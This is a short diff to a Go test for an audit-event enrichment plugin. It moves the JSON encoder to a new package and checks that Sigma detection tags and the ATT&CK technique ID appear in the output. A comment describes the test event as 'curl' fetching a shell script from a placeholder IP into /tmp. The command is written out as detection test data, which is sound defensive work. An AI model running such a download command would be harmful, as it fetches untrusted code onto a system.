@@ -6,6 +6,7 @@ import (
 	"testing"
 
 	"github.com/audisp-enrich/audisp-enrich/plugin/audit"
+	"github.com/audisp-enrich/audisp-enrich/sinks/encode"
 )
 
 // An exec of "curl -o /tmp/x http://198.51.100.7/a.sh" by bash, ENRICHED
@@ -145,7 +146,7 @@ func TestHitOutput(t *testing.T) {
 	if !slices.Contains(ev.Tags, "sigma:o1") || !slices.Contains(ev.Tags, "sigma_level:high") {
 		t.Errorf("tags %v", ev.Tags)
 	}
-	var enc audit.JSONEncoder
+	var enc encode.JSONEncoder
 	out := string(enc.Append(nil, ev))
 	for _, want := range []string{`"sigma":[{"id":"o1","title":"Test o1","level":"high","author":"Tester","tags":["attack.execution","attack.t1059.004"]}]`,
 		`"T1059.004"`} {
